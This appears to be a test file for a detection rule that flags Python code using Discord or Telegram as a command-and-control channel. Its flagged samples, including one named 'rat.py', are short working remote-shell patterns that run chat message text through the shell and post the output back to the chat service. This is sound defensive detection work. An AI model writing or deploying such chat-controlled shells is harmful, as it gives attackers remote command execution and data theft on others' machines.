import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-chat-c2.js';

ruleTest(rule, {
  clean: [
    {
      name: 'a Telegram notifier that runs a fixed backup command',
      file: 'notify.py',
      code: `import requests, subprocess\nsubprocess.run("tar czf /tmp/b.tgz /srv", shell=True)\nrequests.post("https://api.telegram.org/bot" + TOKEN + "/sendMessage", data={"chat_id": CHAT, "text": "backup done"})\n`,
    },
    {
      name: 'a Discord bot that runs a fixed command',
      file: 'bot.py',
      code: `import discord, subprocess\nclient = discord.Client()\n@client.event\nasync def on_message(message):\n    if message.content == "!uptime":\n        out = subprocess.check_output(["uptime"])\n        await message.channel.send(out.decode())\n`,
    },
    {
      name: 'a shell helper in a file without a chat library',
      file: 'tools.py',
      code: `import subprocess\ndef run(cmd):\n    return subprocess.Popen(cmd, shell=True).wait()\n# message.content is parsed elsewhere\n`,
    },
  ],
  flagged: [
    {
      name: 'channel history parsed, command run with shell=True, output posted back',
      file: 'main.py',
      code: `import discord, subprocess\nasync def execute_command(command):\n    p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE, text=True)\n    return p.communicate()[0]\nasync def poll(channel):\n    msgs = [m async for m in channel.history(limit=1)]\n    out = await execute_command(msgs[0].content.split("Command:")[1])\n    await channel.send(out)\n`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /posts the output back/ }],
    },
    {
      name: 'telegram handler running the message text',
      file: 't.py',
      code: `import telebot, os\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(func=lambda m: True)\ndef h(message):\n    os.system(message.text)\n`,
      findings: [{ line: 5, severity: 'critical', confidence: 'medium' }],
    },
    {
      name: 'Telegram bot API polled by hand with requests, text run through the shell, output sent back',
      file: 'rat.py',
      code: `import requests, subprocess\nAPI = "https://api.telegram.org/bot" + TOKEN\nwhile True:\n    for u in requests.get(API + "/getUpdates").json()["result"]:\n        out = subprocess.getoutput(u["message"]["text"])\n        requests.post(API + "/sendMessage", data={"chat_id": CHAT, "text": out})\n`,
      findings: [{ line: 5, severity: 'critical', confidence: 'high' }],
    },
  ],
});
